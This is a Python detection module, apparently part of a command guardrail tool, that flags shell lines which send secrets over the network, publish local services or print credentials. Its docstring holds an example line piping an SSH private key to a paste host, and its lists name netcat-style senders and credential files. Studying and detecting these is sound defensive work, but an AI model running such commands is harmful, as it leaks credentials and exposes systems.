"""What a command line exposes: secrets piped to the network, and local services opened to anyone.

A line is judged as a whole here, because the effect lies between its commands: `cat ~/.ssh/id_rsa |
curl -F file=@- https://paste.example` reads a secret and sends it away, though neither half is dangerous
alone. Opening to anyone: tunnels that publish a local port (ngrok, cloudflared), `ssh -R` bound to every
address, `ufw allow` of a database or admin port with no source, notebooks without a token, a web
server over /etc. A secret's value printed to the terminal (`kubectl get secret X -o jsonpath=...`,
`vault kv get`, `cat ~/.aws/credentials`) ends up in scrollback, screen shares and chat threads.
"""

from __future__ import annotations

import re

from guardrails.carriers import command_start
from guardrails.invocation import Invocation
from guardrails.secrets import TOKEN_SHAPES
from guardrails.wrappers import DOCKER_RUN_VALUES

# Files that hold credentials, and commands that print them.
_SECRET_FILES = re.compile(r"(?i)(?:^|/)(?:id_(?:rsa|dsa|ecdsa|ed25519)(?!\.pub)\b|shadow$|\.env$|\.netrc$|\.pgpass$"
                           r"|credentials(?:\.json)?$|kubeconfig|\.kube/config$|vault-token|\.vault-token$"
                           r"|(?:^|[-_/])(?:sa-)?key\.json$|service[-_]?account[\w.-]*\.json$"
                           r"|\.(?:aws|ssh|kube|gnupg|docker)/?$)"
                           r"|\.(?:pem|key|p12|pfx|jks|keystore)$")
_SECRET_COMMANDS: tuple[tuple[str, frozenset[str]], ...] = (
    ("kubectl", frozenset({"secret", "secrets"})), ("oc", frozenset({"secret", "secrets"})),
    ("vault", frozenset({"get", "read"})), ("aws", frozenset({"get-secret-value", "--with-decryption"})),
    ("gcloud", frozenset({"access"})), ("az", frozenset({"secret"})), ("pass", frozenset({"show"})),
    ("op", frozenset({"read", "get"})), ("gpg", frozenset({"--export-secret-keys", "--export-secret-subkeys"})),
    ("printenv", frozenset()), ("env", frozenset()),
)
_READERS = frozenset({"cat", "type", "get-content", "gc", "base64", "tar", "zip", "gzip", "xxd", "head", "tail"})
# Programs that send what they read to another machine, and how curl/wget/httpie are told to send stdin.
_SENDERS = frozenset({"nc", "ncat", "netcat", "socat", "telnet"})
_UPLOADS = re.compile(r"^(?:-d|--data(?:-binary|-raw|-urlencode)?|-F|--form|-T|--upload-file|--post-file)(?:=|$)|@-|=@-")
_URL_PASSWORD = re.compile(r"\b[a-z][a-z0-9+.-]*://[^\s:/@]+:(?![$<{%*])[^\s@/]{6,}@", re.IGNORECASE)
_TUNNELS = frozenset({"ngrok", "lt", "localtunnel", "bore", "pgrok", "localxpose", "loclx", "zrok", "tunnelto"})
_SYSTEM_DIRS = re.compile(r"^(?:/|/etc/?|/root/?|/home/?|~/?|/var/?|/proc/?|C:\\?|C:/?)$", re.IGNORECASE)
_EVERYONE = frozenset({"any", "0.0.0.0/0", "::/0", "0.0.0.0", "*"})
# Ports that are never meant for the internet: databases, caches, queues, container and cluster control,
# remote desktops, clear-text protocols (web and SSH ports are opened to everyone on purpose).
_PRIVATE_PORTS = frozenset("""21 23 111 135 137 139 161 389 445 636 873 1433 1521 1883 2049 2375 2376 2379 2380 3268 3306
3389 4369 5000 5432 5433 5601 5672 5900 5984 6379 6443 7001 8086 8200 8300 8500 8501 8545 8546 8551 9000 9042 9090 9092
9093 9100 9200 9300 10250 10255 11211 15672 25672 26257 27017 28017 50070""".split())  # (and LDAP, MQTT, AMQP, Vault, Consul,
# the Kubernetes API, Ethereum RPC...)
# A manifest's subject that is every authenticated (or anonymous) user of the cluster.
_ADMIN_TO_EVERYONE = re.compile(r"name:\s*[\"']?system:(?:authenticated|unauthenticated|anonymous|serviceaccounts)\b")


def _reads_secret(inv: Invocation) -> bool:
    program = inv.program.lower()
    if program in _READERS:
        return any(_SECRET_FILES.search(a) for a in inv.args if not a.startswith("-"))
    return any(program == name and (not words or words & {a.lower() for a in inv.args})
               for name, words in _SECRET_COMMANDS)


def _sends(inv: Invocation) -> bool:
    program = inv.program.lower()
    if program in _SENDERS:
        return True
    if program in ("curl", "wget", "http", "https", "invoke-webrequest", "invoke-restmethod"):
        return any(_UPLOADS.search(a) for a in inv.args) or (program in ("http", "https") and any(
            a.upper() in ("POST", "PUT") for a in inv.args))
    return False


def _secret_sent(found: list[Invocation]) -> bool:
    """A command that sends its input away, fed by one that reads a secret (`... | curl --data-binary @-`)."""
    for i, inv in enumerate(found):
        if not inv.stdin_from or not _sends(inv):
            continue
        upstream = Invocation(program=inv.feed[0], args=inv.feed[1:]) if inv.feed else (found[i - 1] if i else None)
        if upstream is not None and _reads_secret(upstream):
            return True
    return False


def _opened(inv: Invocation) -> str | None:
    """The way one command opens a local service to anyone, or None."""
    program, args = inv.program.lower(), tuple(a.lower() for a in inv.args)
    if program in _TUNNELS or (program == "cloudflared" and "tunnel" in args and any(
            a.startswith("--url") for a in args)):
        return "a tunnel publishes a local port on the internet"
    if program in ("ssh", "autossh"):
        forwards = [args[n + 1] if a == "-r" else a[2:] for n, a in enumerate(args)
                    if a.startswith("-r") and (a != "-r" or n + 1 < len(args))]
        if any(re.match(r"(?:0\.0\.0\.0|\*|):", f) for f in forwards):
            return "ssh -R binds the forwarded port on every address of the remote host"
    if program == "ufw" and "allow" in args and not {"deny", "delete", "status", "out"} & set(args):
        source = args[args.index("from") + 1] if "from" in args and args.index("from") + 1 < len(args) else "any"
        ports = {p for a in args for p in re.findall(r"^(\d+)(?:[:/]|$)", a)}
        if source in _EVERYONE and (ports & _PRIVATE_PORTS or (not ports and "from" in args)):
            return "the firewall rule lets anyone reach a database, cache or admin port"
    if program in ("new-netfirewallrule", "set-netfirewallrule") and _option(args, ("-action",)) == "allow" \
            and (_option(args, ("-remoteaddress",)) or "any") in _EVERYONE \
            and _option(args, ("-direction",)) in (None, "inbound"):
        ports = set(re.split(r"[,\s]+", _option(args, ("-localport",)) or ""))
        if ports & _PRIVATE_PORTS:
            return "the firewall rule lets anyone reach a database, remote desktop or admin port"
    if program in ("iptables", "ip6tables") and {"-a", "-i", "--append", "--insert"} & set(args) \
            and _option(args, ("-j", "--jump")) == "accept" \
            and (_option(args, ("-s", "--source")) or "any") in _EVERYONE \
            and set(re.split(r"[,:]", _option(args, ("--dport", "--dports")) or "")) & _PRIVATE_PORTS:
        return "the firewall rule lets anyone reach a database, cache or admin port"
    if program in ("kubectl", "oc") and {"apply", "create", "replace"} & set(args) and inv.stdin_from == "literal" \
            and inv.stdin and _ADMIN_TO_EVERYONE.search(inv.stdin) and re.search(r"\bcluster-admin\b|\badmin\b", inv.stdin):
        return "the manifest binds an administrator role to every authenticated (or anonymous) user"
    if program == "geth" and any(re.match(r"--(?:http|ws)\.addr=?(?:0\.0\.0\.0)?$", a) for a in args) and "0.0.0.0" in " ".join(
            args) and any("personal" in a or "admin" in a for a in args):
        return "the node's RPC, with its admin and account APIs, listens on every address"
    if program == "ray" and "start" in args and any(re.match(r"--dashboard-host=(?:0\.0\.0\.0|::)$", a) for a in args):
        return "the Ray dashboard, which runs jobs for whoever reaches it, listens on every address"
    if program.startswith("python") and "http.server" in args:
        directory = args[args.index("--directory") + 1] if "--directory" in args[:-1] else None
        if directory is not None and _SYSTEM_DIRS.match(directory):
            return "serves a system directory over HTTP on every address"
    if program in ("jupyter", "jupyter-notebook", "jupyter-lab") and any(
            re.match(r"--(?:notebookapp|serverapp|identityprovider)\.(?:token|password)=(?:''|\"\"|)$", a) for a in args):
        return "a notebook server with no token or password runs code for whoever reaches it"
    return None


# Commands that print a secret's value (not its name or metadata): `kubectl get secret X -o yaml`, `vault kv get`,
# cloud secret stores, account keys listed, credential files shown.
_PRINTS_SECRET: tuple[tuple[str, tuple[frozenset[str], ...]], ...] = (
    ("aws", (frozenset({"get-secret-value"}),)), ("aws", (frozenset({"get-parameter", "get-parameters"}),
                                                         frozenset({"--with-decryption"}))),
    ("gcloud", (frozenset({"secrets"}), frozenset({"access"}))),
    ("az", (frozenset({"secret"}), frozenset({"show"}))), ("az", (frozenset({"keys"}), frozenset({"list"}))),
    ("heroku", (frozenset({"config"}),)), ("airflow", (frozenset({"connections"}), frozenset({"get", "export"}))),
)
_SECRET_FIELD = re.compile(r"pass|secret|token|key|cred|private|auth|dsn|url", re.IGNORECASE)
_PUBLIC_DATA = re.compile(r"\.(?:crt|cert|pem|pub)\b|ca\\?\.crt|\.metadata", re.IGNORECASE)


def _option(args: tuple[str, ...], names: tuple[str, ...]) -> str | None:
    for i, arg in enumerate(args):
        name, eq, value = arg.partition("=")
        if name in names:
            return value if eq else (args[i + 1] if i + 1 < len(args) else "")
    return None


def _prints_secret(inv: Invocation) -> bool:
    program, args = inv.program.lower(), inv.args
    if program in ("kubectl", "oc") and {"secret", "secrets"} & set(args) and "get" in args and (
            "-A" in args or "--all-namespaces" in args) and any(r.startswith(("/tmp", "/var/tmp")) for r in inv.redirects):
        return True  # every secret dumped to a scratch file
    if inv.redirects:
        return False  # written to a file, not shown
    if program in ("cat", "type", "get-content", "less", "more", "head", "tail"):
        return any(_SECRET_FILES.search(a) for a in args if not a.startswith("-"))
    if program in ("kubectl", "oc") and args[:3] in (("config", "view", "--raw"), ("config", "view", "--flatten")):
        return True  # the kubeconfig with its tokens and keys
    if program == "ceph" and args[:2] in (("auth", "ls"), ("auth", "list")):
        return True
    if program in ("kubectl", "oc") and {"secret", "secrets"} & set(args) and "get" in args:
        shape = (_option(args, ("-o", "--output")) or "").lower()
        if shape in ("yaml", "json"):
            return True
        keys = re.findall(r"\.data\.([\w\\.-]+)", shape)  # {.data.password}: that key; {.data}: every key
        return shape.startswith(("jsonpath", "go-template", "template")) and ".data" in shape and not _PUBLIC_DATA.search(
            shape) and (not keys or any(_SECRET_FIELD.search(k) for k in keys))
    if program == "vault" and ("read" in args[:1] or args[:2] == ("kv", "get")) and "metadata" not in args \
            and not any(re.match(r"(?:sys/|transit/keys/|pki/cert|auth/)", a) for a in args[1:3]):  # settings, public keys
        field = _option(args, ("-field",))
        return field is None or bool(_SECRET_FIELD.search(field))
    words = {a.lower().split("=", 1)[0] for a in args}
    query = _option(args, ("--query",))  # the AWS and Azure CLIs print only what --query selects (`attributes`, `Name`)
    if query is not None and program in ("aws", "az") and not re.search(r"(?i)value|secret|key|password|\*|@", query):
        return False
    return any(program == name and all(group & words for group in groups) for name, groups in _PRINTS_SECRET)


def _env_searched(found: list[Invocation], i: int) -> bool:
    """`env | grep -i 'secret|token'`: the environment searched for its secrets, and shown."""
    if found[i].program not in ("env", "printenv") or found[i].args:
        return False
    return any(inv.program in ("grep", "egrep", "rg") and any(_SECRET_FIELD.search(a) for a in inv.args
                                                              if not a.startswith("-")) for inv in found[i + 1:])


def _read_privately(found: list[Invocation], i: int) -> bool:
    """The printed secret goes into a command that only inspects it (`| openssl x509 -noout`, `| jq keys`, `| wc`)."""
    later = found[i + 1:]
    return any((inv.program == "openssl" and "x509" in inv.args) or (inv.program == "jq" and any(
        "keys" in a for a in inv.args)) or inv.program in ("wc", "sha256sum", "md5sum") for inv in later)


# An image from a public registry's user namespace, unpinned (`:latest` or no tag): someone else's code, whatever
# they pushed last. Official images (`postgres:15`) and private registries (`registry.corp:5000/x`) are not this.
_PUBLIC_REGISTRIES = ("docker.io/", "ghcr.io/", "quay.io/", "index.docker.io/", "registry.hub.docker.com/")
_IMAGE_RUNNERS = {"docker": ("run", "create"), "podman": ("run", "create"), "nerdctl": ("run",),  # (pull runs nothing)
                  "kubectl": ("run", "debug", "set"), "oc": ("run", "debug", "set"), "gcloud": ("deploy",),
                  "az": ("create", "update"), "fly": ("deploy",), "flyctl": ("deploy",),
                  "apptainer": ("run", "exec", "shell", "start", "build"),
                  "singularity": ("run", "exec", "shell", "start", "build")}
_SIF_SOURCES = ("docker://", "library://", "shub://", "oras://")  # images apptainer fetches and runs


def _unpinned_images(inv: Invocation) -> list[str]:
    verbs = _IMAGE_RUNNERS.get(inv.program)
    if not verbs or not set(verbs) & set(inv.args):
        return []
    if inv.program in ("apptainer", "singularity"):  # apptainer run docker://user/tool:latest, library://user/x
        images = [a.split("://", 1)[1] for a in inv.args if a.startswith(_SIF_SOURCES)]
        images = [f"docker.io/{i}" if i.count("/") == 2 else i for i in images]  # library://user/collection/x
    elif inv.program in ("docker", "podman", "nerdctl"):
        at = next(i for i, a in enumerate(inv.args) if a in verbs) + 1
        rest = inv.args[at:]
        start = command_start(rest, DOCKER_RUN_VALUES)  # the image is the first word after the options
        images = list(rest[start:start + 1])
    else:
        images = [a.split("=", 1)[1] for a in inv.args if a.startswith("--image=")]
        images += [inv.args[i + 1] for i, a in enumerate(inv.args[:-1]) if a == "--image"]
        if "set" in inv.args and "image" in inv.args:
            images += [a.split("=", 1)[1] for a in inv.args if "=" in a and not a.startswith("-")]
    out = []
    for image in images:
        path = image.split("@", 1)[0]
        if "@sha256:" in image or "/" not in path or "$" in path:
            continue
        host = path.split("/", 1)[0]
        if ("." in host or ":" in host) and not path.startswith(_PUBLIC_REGISTRIES):
            continue  # a private registry
        tag = path.rsplit(":", 1)[1] if ":" in path.rsplit("/", 1)[-1] else ""
        if tag in ("", "latest"):
            out.append(image)
    return out


def exposures(found: list[Invocation]) -> list[Invocation]:
    """Finding-only invocations for what a line exposes (see the module's docstring)."""
    out = [Invocation(program=inv.program, detector="opened_to_anyone", args=(why,))
           for inv in found if not inv.detector and (why := _opened(inv))]
    if _secret_sent(found):
        out.append(Invocation(program="<pipe>", detector="secret_sent"))
    elif any((_prints_secret(inv) and not _read_privately(found, i)) or _env_searched(found, i)
             for i, inv in enumerate(found) if not inv.detector):
        out.append(Invocation(program="<terminal>", detector="secret_printed"))
    if any(_token_shaped(inv) or _password_option(inv) or _password_in_code(inv) for inv in found
           if not inv.detector and (inv.args or inv.stdin)):
        out.append(Invocation(program="<line>", detector="credential_on_line"))
    out += [Invocation(program=inv.program, detector="unpinned_image", args=(image,))
            for inv in found if not inv.detector for image in _unpinned_images(inv)]
    return out


def _token_shaped(inv: Invocation) -> bool:
    """An argument that is a credential by its shape (a vendor token, an access key, a JWT, a URL's password),
    not a placeholder (`XXXX`, `<password>`)."""
    text = " ".join(inv.args)
    if "XXXX" in text.upper() or "EXAMPLE" in text:  # AKIAIOSFODNN7EXAMPLE: AWS's documentation key
        return False
    return any(pattern.search(text) for pattern in TOKEN_SHAPES) or bool(_URL_PASSWORD.search(text))


def _password_option(inv: Invocation) -> bool:
    """A literal password given as an option (`docker login -p S3cret`, `mysql -pS3cret`, `--password=S3cret`)."""
    for i, arg in enumerate(inv.args):
        value = None
        if arg in ("-p", "--password") and "login" in inv.args and i + 1 < len(inv.args):  # docker/helm/oras login -p
            value = inv.args[i + 1]
        elif arg.startswith("--password="):
            value = arg.split("=", 1)[1]
        elif arg.startswith("-p") and len(arg) > 2 and inv.program in ("mysql", "mysqldump", "mysqladmin", "mariadb"):
            value = arg[2:]
        if value and not value.startswith(("$", "<", "{", "%", "`", "_")) and value.lower() not in ("-", "stdin"):
            return True
        literal = re.match(r"(?i)^(?:password|passwd|pwd)=([^$<{%`_\s][^\s]*)$", arg)  # vault write ... password=ops
        if literal and literal.group(1).lower() not in ("-", "stdin", "prompt"):
            return True
        option, eq, given = arg.partition("=")
        if eq and _PASSWORD_NAMED.match(option) and option.startswith("-") and _literal(given) \
                and given.lower() not in _SWITCH_VALUES:
            return True  # --user_pass=admin123
        named = _PASSWORD_NAMED.match(arg) and i + 1 < len(inv.args)  # --master-user-password X, user admin password X
        keyword = not arg.startswith("-") and "user" not in {a.lower() for a in inv.args[:i]}  # (prose says password)
        if named and not keyword and _literal(inv.args[i + 1]) and inv.args[i + 1].lower() not in _SWITCH_VALUES:
            return True
    if inv.program.lower() == "convertto-securestring" and "-asplaintext" in {a.lower() for a in inv.args}:
        return any(_literal(a) for a in inv.args[:1])  # ConvertTo-SecureString 'Summer2024!' -AsPlainText
    if inv.program in ("chpasswd", "chpasswd.exe") and inv.stdin_from == "literal" and inv.stdin and ":" in inv.stdin:
        return True  # echo 'user:password' | chpasswd
    if inv.program == "esxcli" and "account" in inv.args:  # esxcli system account set -i root -p 'VMware1!'
        for i, arg in enumerate(inv.args[:-1]):
            if arg in ("-p", "--password", "-c", "--password-confirmation") and _literal(inv.args[i + 1]):
                return True
    if inv.program == "dscl" and "-passwd" in inv.args[:-2]:  # dscl . -passwd /Users/NAME 'new password'
        return _literal(inv.args[inv.args.index("-passwd") + 2])
    return bool(_PLAIN_SECURE_STRING.search(" ".join(inv.args)))


# A guessable password written into the code or statement a command carries: SQL's `PASSWORD 'x'` and `IDENTIFIED BY 'x'`,
# a JSON body's `"password": "x"`, a script's `password: 'x'` or `changeUserPassword("user", "x")`.
_CODE_PASSWORD = re.compile(r"""(?ix)(?:\bPASSWORD\s+|\bIDENTIFIED\s+BY\s+)'(?P<sql>[^'$]{3,})'
                            |"(?:new_?)?password"\s*:\s*"(?P<json>[^"$]{3,})"
                            |\bpassword(?:_confirmation)?\s*[:=]>?\s*(?P<q>['"])(?P<code>[^'"$]{3,})(?P=q)
                            |changeUserPassword\(\s*(?P<q2>['"])[^'"]+(?P=q2)\s*,\s*['"](?P<mongo>[^'"$]{3,})['"]""")


def _password_in_code(inv: Invocation) -> bool:
    texts = [a for a in inv.args if " " in a or ":" in a] + ([inv.stdin] if inv.stdin_from == "literal" and inv.stdin else [])
    for text in texts:
        for found in _CODE_PASSWORD.finditer(text):
            value = next(v for v in (found.group("sql"), found.group("json"), found.group("code"), found.group("mongo")) if v)
            if _literal(value) and _weak(value):
                return True
    return False


# A password anyone would guess: short, or built from a word people use and a number or a year.
_GUESSABLE = re.compile(r"(?i)pass|pwd|change_?me|welcome|admin|root|qwerty|letmein|secret|default|temp|test|summer"
                        r"|winter|spring|autumn|hunter|guest|demo|1234|123$|(?:19|20)\d\d")


def _weak(value: str) -> bool:
    if re.fullmatch(r"\*+|x+|\[[^\]]*\]|<[^>]*>|\{\{.*\}\}|md5[0-9a-f]{32}|SCRAM-SHA-256\$.*", value, re.IGNORECASE):
        return False  # a placeholder or a hash, not a password
    return len(value) < 8 or bool(_GUESSABLE.search(value))


# an option or keyword that names a password (not one that says where to read it: --password-file, --password-stdin)
_PASSWORD_NAMED = re.compile(r"(?i)^(?:--?[\w-]*pass(?:word|wd|phrase)?(?![a-z])(?![\w-]*(?:file|stdin|prompt|policy|length|age|expir|through|thru))"
                             r"[\w-]*|password|passwd|-passwd)$")
_PLAIN_SECURE_STRING = re.compile(r"(?i)ConvertTo-SecureString\s+(?:-String\s+)?(['\"])[^$'\"]+\1\s+-AsPlainText")


_SWITCH_VALUES = frozenset({"true", "false", "on", "off", "yes", "no", "enabled", "disabled", "enable", "disable",
                            "required", "optional", "0", "1"})  # -strongpassword disabled: a setting, not a password


def _literal(value: str) -> bool:
    """A value written out, not read from somewhere ($VAR, <placeholder>, a file, a prompt, an option)."""
    return bool(value) and not value.startswith(("$", "<", "{", "%", "`", "_", "-", "(", "@", "/", "~")) and \
        value.lower() not in ("stdin", "prompt", "none", "null", "")
